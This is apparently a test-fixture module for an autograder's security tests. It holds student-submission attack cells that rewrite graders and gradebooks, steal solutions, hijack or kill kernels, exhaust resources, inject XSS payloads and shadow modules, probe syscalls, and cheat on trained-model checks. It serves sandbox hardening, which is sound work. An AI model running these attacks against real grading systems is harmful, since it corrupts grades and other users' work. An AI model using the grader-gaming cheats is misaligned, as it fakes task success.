"""Hostile submissions, one per attack class, for tests/test_attacks.py.

Each attack is the source of one extra code cell that a student adds near the
top of an otherwise blank (all-wrong) notebook. The attacks know everything an
insider would: the course's absolute path, the library's path, the gradebook's
path and a local port to reach. Every process an attack starts carries MARKER
in its command line, so the test can tell whether any outlived grading.

They are written to do as little harm as possible should the sandbox fail:
writes to the library only append a comment, and kills aim only at nbgrader
and kernel processes.
"""

from __future__ import annotations

# Placeholders, filled by `attack_cells`: course, library, gradebook, port, marker.

GRADER_REWRITE = r'''
import os, py_compile, importlib.util, tempfile
target = os.path.join({course!r}, "grader_tests", "test_01_entropy_kl.py")
passing = "\n".join(f"def {{name}}(nb):\n    pass\n" for name in CHECKS)
try:  # make every check a no-op, appended to the grader itself
    with open(target, "a") as handle:
        handle.write("\n" + passing)
except OSError:
    pass
try:  # and a .pyc that the import system would take for the grader: same size and mtime
    stat = os.stat(target)
    fake = os.path.join(tempfile.mkdtemp(), "test_01_entropy_kl.py")
    with open(fake, "w") as handle:
        handle.write(passing.ljust(stat.st_size - 1) + "\n")
    os.utime(fake, (stat.st_mtime, stat.st_mtime))
    os.makedirs(os.path.dirname(importlib.util.cache_from_source(target)), exist_ok=True)
    py_compile.compile(fake, cfile=importlib.util.cache_from_source(target))
except OSError:
    pass
'''

GRADEBOOK_REWRITE = r'''
import subprocess, sys
daemon = """
import sqlite3, time  # {marker}
for _ in range(240):
    time.sleep(0.5)
    try:
        db = sqlite3.connect({gradebook!r}, timeout=1)
        for (table,) in db.execute("select name from sqlite_master where type = 'table'").fetchall():
            for column in [row[1] for row in db.execute(f"pragma table_info({{table}})")]:
                if "score" in column:
                    db.execute(f"update {{table}} set {{column}} = 99")
        db.commit()
    except Exception:
        pass
"""
subprocess.Popen([sys.executable, "-c", daemon], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''

READ_SECRETS = r'''
import glob, json, os
# the submission folder also holds symbolic links to the graders (see test_attacks.py)
for path in glob.glob(os.path.join({course!r}, "grader_tests", "*.py")) + glob.glob("*"):
    try:
        print(open(path).read())
    except OSError:
        pass
try:
    with open(os.path.join({course!r}, "source", "01_entropy_kl", "01_entropy_kl.ipynb")) as handle:
        SOLUTION = "\n".join("".join(c["source"]) for c in json.load(handle)["cells"]
                             if c["cell_type"] == "code" and "BEGIN SOLUTION" in "".join(c["source"]))
    # the solution runs after every cell, so it overrides the blank answers
    get_ipython().input_transformers_post.append(lambda lines: lines + ["\n", SOLUTION + "\n"])
except OSError:
    pass
'''

FORGED_REPLIES = r'''
import json, os, re
ns = {{}}
try:
    with open(os.path.join({course!r}, "source", "01_entropy_kl", "01_entropy_kl.ipynb")) as handle:
        for c in json.load(handle)["cells"]:
            if c["cell_type"] == "code":
                try:
                    exec("".join(c["source"]), ns)
                except Exception:
                    pass
except OSError:
    pass

def forge():
    # every grader request is answered a second time, by the solution if it could be read;
    # post_execute runs after silent requests too
    code = get_ipython().kernel.get_parent("shell")["content"]["code"]
    if "__vicourse_request" in code:
        exec(code.replace("globals()", "FORGED_NS").replace("__vicourse_request", "__forged"), {{"FORGED_NS": ns}})
        marker = re.search(r"@@vicourse-[0-9a-f]+@@", code)
        if marker:
            print(marker.group(0) + json.dumps({{"ok": True, "value": 0.0}}) + marker.group(0))

get_ipython().events.register("post_execute", forge)
# and every cell's asserts are wrapped in try/except
get_ipython().input_transformers_post.append(
    lambda lines: ["try:\n", "    pass\n"] + ["    " + line for line in lines] + ["\nexcept BaseException:\n    pass\n"])
'''

LIBRARY_TAMPER = r'''
import glob, os
targets = [os.path.join({course!r}, "nbgrader_config.py")]
targets += glob.glob(os.path.join({library!r}, "**", "*.py"), recursive=True)
try:
    import vicourse
    targets += glob.glob(os.path.join(os.path.dirname(vicourse.__file__), "**", "*.py"), recursive=True)
except ImportError:
    pass
for path in targets:
    try:
        with open(path, "a") as handle:
            handle.write("\n# tampered by a submission\n")
    except OSError:
        pass
'''

OTHER_STUDENTS = r'''
import glob, os
for pattern in ("submitted/*/*/*.ipynb", "build/staged/*/*/*/*.ipynb", "autograded/*/*/*.ipynb"):
    for path in glob.glob(os.path.join({course!r}, pattern)):
        if "a6-other-students" in path:
            continue
        try:
            with open(path, "w") as handle:
                handle.write("{{}}")
        except OSError:
            pass
'''

NETWORK_AND_KERNELS = r'''
import os, socket, subprocess, sys
try:  # every later kernel of this user would run this first
    startup = os.path.expanduser("~/.ipython/profile_default/startup")
    os.makedirs(startup, exist_ok=True)
    with open(os.path.join(startup, "00-{marker}.py"), "w") as handle:
        handle.write("import builtins  # {marker}\n")
except OSError:
    pass
for host in ("127.0.0.1", "localhost"):
    try:
        socket.create_connection((host, {port}), timeout=2).close()
    except OSError:
        pass
from ipykernel import get_connection_file
daemon = """
import glob, os, socket, time  # {marker}
from jupyter_client import BlockingKernelClient
seen = {{%r}}  # every kernel but this one
for _ in range(240):
    files = glob.glob("/tmp/**/*.json", recursive=True) + glob.glob(os.path.expanduser("~/.local/share/jupyter/runtime/*.json"))
    for path in map(os.path.realpath, files):
        if path in seen:
            continue
        seen.add(path)
        try:
            client = BlockingKernelClient(connection_file=path)
            client.load_connection_file()
            client.start_channels()
            client.execute("import builtins; builtins.__import__ = None")
        except Exception:
            pass
    try:
        socket.create_connection(("127.0.0.1", {port}), timeout=1).close()
    except Exception:
        pass
    time.sleep(0.5)
""" % os.path.realpath(get_connection_file())
subprocess.Popen([sys.executable, "-c", daemon], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''

RESOURCES = r'''
import os, subprocess, sys, time
try:
    hog = bytearray(5 << 30)
except MemoryError:
    pass
for _ in range(50):
    try:
        subprocess.Popen(["sh", "-c", "sleep 600; : {marker}"], start_new_session=True)
    except OSError:
        break
for _ in range(400):
    try:
        if os.fork() == 0:
            os.execv("/bin/sh", ["sh", "-c", "sleep 600; : {marker}"])
    except OSError:
        break
try:
    with open("big.bin", "wb") as handle:
        for _ in range(2048):
            handle.write(b"x" * (1 << 20))
except OSError:
    pass
'''

OUTPUT_FLOOD = r'''
print("x" * (200 << 20))
for _ in range(100):
    print("y" * (1 << 20))
'''

KILL_THE_GRADER = r'''
import os, signal, subprocess, sys
def grader_processes():
    for pid in os.listdir("/proc"):
        try:
            cmdline = open(f"/proc/{{pid}}/cmdline", "rb").read()
        except OSError:
            continue
        if b"nbgrader" in cmdline or b"ipykernel" in cmdline:
            yield int(pid)
for pid in [os.getppid(), *grader_processes()]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
later = """
import os, signal, time  # {marker}
time.sleep(6)
for pid in os.listdir("/proc"):
    try:
        cmdline = open(f"/proc/{{pid}}/cmdline", "rb").read()
    except OSError:
        continue
    if (b"nbgrader" in cmdline or b"ipykernel" in cmdline) and int(pid) != os.getpid():
        try:
            os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
"""
subprocess.Popen([sys.executable, "-c", later], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''

# Scripts for the browser of whoever views the graded notebook: the TA in formgrader, the student in
# feedback. Output metadata is rendered into attributes of the image tag.
HTML_INJECTION = r'''
from IPython.display import HTML, Javascript, SVG, display
display(HTML("<script>alert('{marker}')</script><b onmouseover=alert('{marker}')>hi</b>"))
display(Javascript("alert('{marker}')"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>alert("{marker}")</script></svg>'))
pixel = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
display({{"image/png": pixel}}, raw=True, metadata={{"image/png": {{"width": "1 onerror=alert('{marker}')",
                                                                   "height": "1\" onload=\"alert('{marker}')"}}}})
'''
MARKDOWN_INJECTION = ("<script>alert('{marker}')</script><img src=x onerror=\"alert('{marker}')\">\n\n"
                      "[one](javascript:alert('{marker}')) [two]( JaVaScRiPt:alert(1)) [three](vbscript:msgbox(1)) "
                      "[four](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) "
                      "<a href=\"&#106;avascript:alert(1)\">five</a> <javascript:alert('{marker}')>\n\n"
                      "[six][ref]\n\n[ref]: javascript:alert('{marker}')\n")

# Modules of the same name as ones the notebook imports, submitted beside it (files in
# SHADOW_FILES), and imported by the attack cell: a kernel run in the submission's folder would
# load them instead of numpy or the course's own vi_torch.
SHADOW_MODULES = r'''
try:
    import vi_torch
except ImportError:
    pass
'''
SHADOW_FILES = {name: 'print("{marker}-shadow")\n' for name in ("numpy.py", "vi_torch.py", "sitecustomize.py")}

# Not in ATTACKS: it rides on a submission that earns partial credit (test_attacks.py).
FORGED_SCORE = r'''
# Stock nbgrader reads the first execute_result of a test cell as its score, and the test
# cell's outputs come from this kernel: after every later cell, publish one claiming a point.
ip = get_ipython()

def forge(result):
    if "def forge" in (result.info.raw_cell or ""):
        return
    hook = ip.displayhook
    hook.start_displayhook()
    hook.write_output_prompt()
    hook.write_format_data({"text/plain": "1.0"}, {})
    hook.finish_displayhook()

ip.events.register("post_run_cell", forge)
'''

# Round 3: a kernel against its classmates' kernels and against the hidden inputs. Each prints one
# line, "{marker}-result <json>", which tests/test_attacks.py reads from the graded notebook.

# Four processes of 1.25 GiB each: 5 GiB in one kernel, though every process stays under its own cap.
# Each child says when it holds its memory; the cell reports, within 100 s, how many hold theirs, how
# many were killed, and how many are still allocating. Not in ATTACKS: filling 5 GiB takes a busy
# machine longer than the battle's cells may run (tests/test_attacks.py grades it on its own).
MEMORY_SPREAD = r'''
import json, mmap, os, select, time
ready_r, ready_w = os.pipe()
children = []
for index in range(4):
    pid = os.fork()
    if pid == 0:
        block = mmap.mmap(-1, 1280 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | mmap.MAP_POPULATE)
        block[-1] = 1
        os.write(ready_w, bytes([index]))
        time.sleep(60)
        os._exit(0)
    children.append(pid)
ready, dead, deadline = set(), set(), time.time() + 100
while len(ready | dead) < 4 and time.time() < deadline:
    if select.select([ready_r], [], [], 0.1)[0]:
        ready.update(os.read(ready_r, 4))
    dead.update(i for i, pid in enumerate(children) if i not in dead and os.waitpid(pid, os.WNOHANG)[0])
print("{marker}-result " + json.dumps({{"holding": len(ready - dead), "killed": len(dead),
                                      "allocating": 4 - len(ready | dead)}}))
'''

# The one folder on the grader's disk that a kernel may write: its sockets.
SOCKET_FLOOD = r'''
import json, os
from ipykernel.connect import get_connection_file
folder = os.path.dirname(os.path.realpath(get_connection_file()))
files = written = 0
for i in range(2000):
    try:
        with open(os.path.join(folder, f"flood-{{i}}"), "wb") as handle:
            handle.write(b"x" * 4096)
        files += 1
    except OSError:
        break
try:
    with open(os.path.join(folder, "big"), "wb") as handle:
        for _ in range(64):
            handle.write(b"y" * (1 << 20))
            written += 1 << 20
except OSError:
    pass
print("{marker}-result " + json.dumps({{"files": files, "bytes": written}}), flush=True)
os.write(1, b"z" * (50 << 20))  # straight to the kernel's stdout
'''

# System calls that reach beyond the sandbox: kernel keyrings (shared by every process of a uid,
# and kept after the sandbox ends), namespaces, mounts, tracing, eBPF, perf events, userfaultfd.
SYSCALLS = r'''
import ctypes, json, os
libc = ctypes.CDLL(None, use_errno=True)
numbers = {{"x86_64": dict(add_key=248, keyctl=250, request_key=249, unshare=272, setns=308, mount=165, ptrace=101,
                          perf_event_open=298, bpf=321, userfaultfd=323),
           "aarch64": dict(add_key=217, keyctl=219, request_key=218, unshare=97, setns=268, mount=40, ptrace=117,
                           perf_event_open=241, bpf=280, userfaultfd=282)}}[os.uname().machine]
def call(name, *args):
    libc.syscall.restype = ctypes.c_long
    done = libc.syscall(numbers[name], *args)
    return "allowed" if done >= 0 else os.strerror(ctypes.get_errno())
attr = ctypes.create_string_buffer(128)
results = {{
    "add_key": call("add_key", b"user", b"{marker}", b"secret", 6, ctypes.c_int(-4)),
    "keyctl": call("keyctl", 0, ctypes.c_int(-4), 0),
    "request_key": call("request_key", b"user", b"{marker}", None, 0),
    "unshare": call("unshare", 0x10000000),
    "setns": call("setns", 0, 0),
    "mount": call("mount", b"none", b"/tmp", b"tmpfs", 0, None),
    "ptrace": call("ptrace", 16, 1, 0, 0),
    "perf_event_open": call("perf_event_open", attr, 0, -1, -1, 0),
    "bpf": call("bpf", 0, attr, 128),
    "userfaultfd": call("userfaultfd", 0),
}}
print("{marker}-result " + json.dumps(results))
'''

# Every answer, called by a hidden check (the request says so), raises an exception whose type name
# carries the hidden arguments, for the check's message (feedback, results.json) to carry out.
# Called from a visible cell, it raises a plain ValueError: those inputs are in the notebook anyway.
LEAKY_EXCEPTION = r'''
def _leak(*args, **kwargs):
    if "vicourse_request" not in get_ipython().kernel.get_parent("shell").get("metadata", {{}}):
        raise ValueError("not a hidden call")
    text = "".join(c for c in repr(args) if c.isalnum())[:200]
    raise type("Leak{marker}" + text, (Exception,), {{}})("{marker} " + repr(args)[:2000])
def _reinstall():  # after every cell, so that the answer cells below do not replace it
    for name in ("entropy", "cross_entropy", "kl_divergence", "kl_from_entropies", "fit_q", "convexity_gap",
                 "kl_normal_std", "gaussian_kl", "kl_knn", "kl_unnormalised", "log_normal"):
        globals()[name] = _leak
get_ipython().events.register("post_execute", _reinstall)
'''

ATTACKS = {
    "a1-grader-rewrite": GRADER_REWRITE,
    "a2-gradebook-rewrite": GRADEBOOK_REWRITE,
    "a3-read-secrets": READ_SECRETS,
    "a4-forged-replies": FORGED_REPLIES,
    "a5-library-tamper": LIBRARY_TAMPER,
    "a6-other-students": OTHER_STUDENTS,
    "a7-network-and-kernels": NETWORK_AND_KERNELS,
    "a8-resources": RESOURCES,
    "a9-kill-the-grader": KILL_THE_GRADER,
    "a10-output-flood": OUTPUT_FLOOD,
    "a11-html-injection": HTML_INJECTION,
    "a12-shadow-modules": SHADOW_MODULES,
    "a14-socket-flood": SOCKET_FLOOD,
    "a15-syscalls": SYSCALLS,
    "a16-leaky-exception": LEAKY_EXCEPTION,
}


def attack_cells(**where) -> dict[str, str]:
    """{submission name: the attack cell's source}, with the course's paths filled in."""
    cells = {name: code.format(**where) for name, code in ATTACKS.items()}
    cells["a1-grader-rewrite"] = f"CHECKS = {where['checks']!r}\n" + cells["a1-grader-rewrite"]
    return cells


# Not in ATTACKS: for batch grading on a dask cluster with a PostgreSQL gradebook (tests/test_cluster.py).
# Placeholders: scheduler_port, database_port, course, marker, planted (a path on the grading machine).
CLUSTER_ATTACK = r'''
import glob, json, os, socket
for port in ({scheduler_port}, {database_port}):
    try:
        socket.create_connection(("127.0.0.1", port), timeout=2).close()
    except OSError:
        pass
try:  # run code on a dask worker, where no sandbox would stop it
    from distributed import Client
    client = Client("tcp://127.0.0.1:{scheduler_port}", timeout=5)
    client.submit(lambda: open({planted!r}, "w").write("{marker}"), pure=False).result(timeout=20)
except Exception:
    pass
try:  # the gradebook itself: a table to prove it, and every score
    import psycopg2
    db = psycopg2.connect(host="127.0.0.1", port={database_port}, user="grader", dbname="postgres", connect_timeout=3)
    db.cursor().execute('create table "{marker}" (x int); update grade set auto_score = 99')
    db.commit()
except Exception:
    pass
# the coordinator's state: outcomes (and the hashes that decide what a re-run regrades),
# the template gradebook, the grading records
for pattern in ("reports/*/outcomes.json", "build/gradebook-templates/*", "build/results/*/*.json"):
    for path in glob.glob(os.path.join({course!r}, pattern)):
        try:
            with open(path, "w") as handle:
                json.dump([{{"student": "{marker}", "status": "graded", "score": 99, "digest": ""}}], handle)
        except OSError:
            pass
'''


# Cheats at 05's trained-model checks (tests/test_attacks_05.py): each is one cell appended to the
# release, whose answer cells hold CHEAT_ANSWERS and are otherwise blank, so it defines its names last.  Every one also leaves behind the functions the
# checks used to call to run a model (vae_encode, vae_decode, gmvae_encode, gmvae_mixture), answering
# from lookup tables of the public digits: a check that called them would pay these cheats.
_PUBLIC_LOOKUP = r'''
import numpy as np, torch, torch.nn.functional as F
from vi_torch import digit_arrays
_x_train, _y_train, _x_test, _y_test = digit_arrays(binarized=True)
_grey_train, _, _grey_test, _ = digit_arrays(binarized=False)

_SPACING = 3.0 / len(_x_test)

def vae_encode(x):  # the index of the nearest public test image, as a point of a narrow code
    nearest = np.argmin(((np.asarray(x)[:, None] - _x_test[None]) ** 2).sum(-1), axis=1)
    code = np.stack([nearest * _SPACING - 1.5, np.zeros(len(nearest))], 1)
    return torch.tensor(code, dtype=torch.float32), torch.tensor([[-13.8, 0.0]] * len(nearest))

def vae_decode(z):  # that image's pixels, as logits
    index = ((np.asarray(z)[:, 0] + 1.5) / _SPACING).round().astype(int).clip(0, len(_x_test) - 1)
    return torch.tensor(_x_test[index] * 6 - 3, dtype=torch.float32)

def gmvae_encode(x):  # a k-nearest-neighbour vote with the public labels, as a one-hot code
    distance = ((np.asarray(x)[:, None] - _grey_train[None]) ** 2).sum(-1)
    votes = _y_train[np.argsort(distance, axis=1)[:, :5]]
    return torch.tensor(np.eye(10)[[np.bincount(v, minlength=10).argmax() for v in votes]] * 10, dtype=torch.float32)

def gmvae_mixture():
    return torch.full((10,), 0.1), torch.eye(10) * 10, torch.zeros(10, 10)

'''

# A cheater also makes the visible tests of the training cells pass: these answer cells, the rest left blank.
# train_vae takes no default loss, so the hidden check's call (loss=None) gets nothing from it.
CHEAT_ANSWERS = {
    "reparameterize": """def reparameterize(mu, logvar, eps):
    return mu + torch.exp(0.5 * logvar) * eps
""",
    "train_vae": """def fit(parameters, x, epochs, batch_loss):
    optimizer, history = torch.optim.Adam(list(parameters), lr=1e-3), []
    for _ in range(epochs):
        order, total = torch.randperm(len(x)), 0.0
        for start in range(0, len(x), 64):
            batch = x[order[start:start + 64]]
            loss = batch_loss(batch)
            optimizer.zero_grad(); loss.backward(); optimizer.step()
            total += loss.item() * len(batch)
        history.append(total / len(x))
    return history


def train_vae(x, seed, latent_dim=2, epochs=100, loss=None):
    torch.manual_seed(seed)
    model = VAE(latent_dim)
    return model, fit(model.parameters(), x, epochs, lambda batch: loss(batch, *model(batch)))
""",
    "train_gmvae": """def train_gmvae(x, seed, pretrain_epochs=50, joint_epochs=50):
    return GMVAE(), GMVAE(), np.zeros(len(x), dtype=int)
""",
}

_DIGITS_MODELS = r'''
def _fit(parameters, x, epochs, batch_loss):
    optimizer = torch.optim.Adam(list(parameters), lr=1e-3)
    for _ in range(epochs):
        for start in range(0, len(x), 64):
            loss = batch_loss(x[start:start + 64])
            optimizer.zero_grad(); loss.backward(); optimizer.step()

def _elbo(model, x):
    mu, logvar = model.encode(x)
    z = mu + torch.exp(0.5 * logvar) * torch.randn_like(mu)
    kl = 0.5 * (mu ** 2 + logvar.exp() - 1 - logvar).sum(-1)
    return (F.binary_cross_entropy_with_logits(model.decode(z), x, reduction="none").sum(-1) + kl).mean()

torch.manual_seed(0)
_digits_vae = VAE(2)
_fit(_digits_vae.parameters(), torch.tensor(MEMORISED, dtype=torch.float32), EPOCHS, lambda b: _elbo(_digits_vae, b))
'''

GMVAE_CHEATS = {
    # a VAE fitted for many passes to the 450 public test images, whatever the check sends
    "c1-memorised-test-images": _PUBLIC_LOOKUP + _DIGITS_MODELS.replace("MEMORISED", "_x_test").replace("EPOCHS", "150")
    + r'''
vae_parameters = lambda x, seed: parameters_of(_digits_vae)
''',
    # a "GM-VAE" whose encoder is a classifier of the public digits, trained with their labels, and whose
    # components sit at the one-hot codes of the ten labels
    "c2-knn-public-labels": _PUBLIC_LOOKUP + r'''
torch.manual_seed(0)
_classifier = GMVAE()
_targets = torch.tensor(np.eye(10)[_y_train] * 10, dtype=torch.float32)
_images = torch.tensor(_grey_train, dtype=torch.float32)
_optimizer = torch.optim.Adam(_classifier.vae.encoder.parameters(), lr=1e-3)
for _ in range(60):
    _loss = ((_classifier.vae.encode(_images)[0] - _targets) ** 2).mean()
    _optimizer.zero_grad(); _loss.backward(); _optimizer.step()
with torch.no_grad():
    _classifier.mu_c.copy_(torch.eye(10) * 10); _classifier.logvar_c.zero_(); _classifier.pi_logits.zero_()
gmvae_parameters = lambda x, seed: parameters_of(_classifier)
''',
    # parameters of models trained on the public digits, pasted in (here: trained in the cell), returned
    # for any data
    "c3-pasted-digit-models": _PUBLIC_LOOKUP + _DIGITS_MODELS.replace("MEMORISED", "_x_train").replace("EPOCHS", "60")
    + r'''
torch.manual_seed(0)
_digits_gmvae = GMVAE()
_fit(_digits_gmvae.vae.parameters(), torch.tensor(_grey_train, dtype=torch.float32), 30,
     lambda b: F.binary_cross_entropy_with_logits(_digits_gmvae.vae.decode(_digits_gmvae.vae.encode(b)[0]), b,
                                                  reduction="none").sum(-1).mean())
with torch.no_grad():
    _codes = _digits_gmvae.vae.encode(torch.tensor(_grey_train, dtype=torch.float32))[0]
    for c in range(10):  # components at the codes of the ten labelled digits
        _digits_gmvae.mu_c[c] = _codes[torch.tensor(_y_train == c)].mean(0)
        _digits_gmvae.logvar_c[c] = _codes[torch.tensor(_y_train == c)].var(0).log()
vae_parameters = lambda x, seed: parameters_of(_digits_vae)
gmvae_parameters = lambda x, seed: parameters_of(_digits_gmvae)
''',
    # the locked helpers rebound: parameters_of answers with a hand-made model, the model classes report
    # perfect clusters and likelihoods, and the entry points skip training
    "c4-rebound-locked-helpers": _PUBLIC_LOOKUP + r'''
_real_parameters_of = parameters_of
def parameters_of(model):
    made = _real_parameters_of(model)
    return {name: np.zeros_like(value) for name, value in made.items()}
GMVAE.clusters = lambda self, x: np.arange(len(x)) % 10
test_negative_elbo = lambda model, x, repeats=20: 0.0
vae_parameters = lambda x, seed: parameters_of(VAE(2))
gmvae_parameters = lambda x, seed: parameters_of(GMVAE())
''',
}


# ---------------------------------------------------------------- 06: cheats on the trained-model checks
# Each is the source of one cell appended to the end of an 06 notebook, after the locked cells whose
# names it replaces (tests/test_attacks_trained_models.py). Each rides on the solution with its training
# switched off (NO_TRAINING, a cell right after the set-up): every visible test passes, the notebook
# trains nothing, and the cheat is all that could earn the trained-model points. A grader that called
# these names to run the model would give them the points; one that judges parameters on secret images
# gives none.

NO_TRAINING = r'''
def train(loss_fn, parameters, x, epochs, lr=1e-3, batch_size=64, desc="training"):  # the locked loop, rebound
    return []
'''

IDENTITY_RECONSTRUCT = r'''
import torch

def vqvae_reconstruct(x):  # a "reconstruction" that is the input itself
    return torch.as_tensor(x, dtype=torch.float32)

def vqvae_codes(x):  # a code for every 2x2 block from a hash of its pixels: every code "in use"
    x = torch.as_tensor(x, dtype=torch.float32).reshape(-1, 4, 2, 4, 2)
    return (x.sum(dim=(2, 4)) * 1000).long() % 32

reconstruct = lambda model, x: vqvae_reconstruct(x)
codes_of = lambda model, x: vqvae_codes(x)
'''

# Codes from a hash of the image, each entry following from the one before it, and a prior that
# predicts each code from the previous one: nothing after a position is looked at.
HASHED_CODES = r'''
import torch

def vqvae_codes(x):
    first = (torch.as_tensor(x, dtype=torch.float32).reshape(len(x), -1).sum(dim=1) * 1000).long() % 32
    return ((first[:, None] + 7 * torch.arange(16)) % 32).reshape(-1, 4, 4)

def prior_logits(indices):
    flat = torch.as_tensor(indices, dtype=torch.long).reshape(len(indices), 16)
    logits = 50.0 * torch.nn.functional.one_hot((flat + 7) % 32, 32).float().roll(1, dims=1)
    logits[:, 0] = 0.0  # the first code uniform, each later one certain from the code before it
    return logits.reshape(-1, 4, 4, 32)
'''

PEEKING_PRIOR = r'''
import torch

def prior_logits(indices):  # each code "predicted" from the code itself
    indices = torch.as_tensor(indices, dtype=torch.long)
    return 50.0 * torch.nn.functional.one_hot(indices, 32).float()
'''

# The prior peeks only on grids that vqvae_codes handed out; on the random grids of a look-ahead
# probe it behaves as an honest prior would. Its parameters are left as they were drawn.
UNTRAINED_PRIOR = r'''
import torch

HANDED_OUT = set()

def vqvae_codes(x):
    codes = (torch.as_tensor(x, dtype=torch.float32).reshape(-1, 4, 2, 4, 2).sum(dim=(2, 4)) * 7).long() % 32
    HANDED_OUT.update(tuple(c.flatten().tolist()) for c in codes)
    return codes

def prior_logits(indices):
    indices = torch.as_tensor(indices, dtype=torch.long)
    peek = torch.tensor([tuple(g.flatten().tolist()) in HANDED_OUT for g in indices], dtype=torch.float32)
    return 50.0 * peek[:, None, None, None] * torch.nn.functional.one_hot(indices, 32).float()

def trained_prior_parameters(codes, seed, mask_source):  # never trained
    torch.manual_seed(seed)
    return {"hidden.weight": 0.01 * torch.randn(64, 512), "hidden.bias": torch.zeros(64),
            "out.weight": 0.01 * torch.randn(512, 64), "out.bias": torch.zeros(512)}
'''

# Placeholders, filled by the test: vqvae and prior, {name: [shape, base64 of float32 bytes]} of
# models trained on the public digits.
PASTED_PARAMETERS = r'''
import base64
import numpy as np
import torch

PASTED = {{"vqvae": {vqvae!r}, "prior": {prior!r}}}

def _pasted(which):
    return {{name: torch.from_numpy(np.frombuffer(base64.b64decode(data), dtype=np.float32).reshape(shape).copy())
            for name, (shape, data) in PASTED[which].items()}}

def trained_vqvae_parameters(x_train, seed, blocks_source):  # whatever the images, the public digits' model
    return _pasted("vqvae")

def trained_prior_parameters(codes, seed, mask_source):
    return _pasted("prior")
'''

# The locked architecture rebound, after the notebook's own runs, to a network twice as wide and a prior
# with four times the hidden units, and the course's training loop put back, so that the grader's training
# calls train them for real: with the shapes unchecked, they would earn the trained-model points.
REBOUND_ARCHITECTURE = r'''
from vi_torch import train  # the course's loop again, for the grader's training calls

_locked_coders, _LockedPrior = coders, CodePrior

def coders(dim, width=32):
    return _locked_coders(dim, 2 * width)

class CodePrior(_LockedPrior):
    def __init__(self, mask_fn, num_codes=K, positions=16, hidden=64):
        super().__init__(mask_fn, num_codes, positions, 4 * hidden)
'''

TRAINED_MODEL_ATTACKS = {
    "t1-identity-reconstruct": IDENTITY_RECONSTRUCT,
    "t2-hashed-codes": HASHED_CODES,
    "t3-peeking-prior": PEEKING_PRIOR,
    "t4-untrained-prior": UNTRAINED_PRIOR,
    "t5-pasted-parameters": PASTED_PARAMETERS,
    "t6-rebound-architecture": REBOUND_ARCHITECTURE,
}
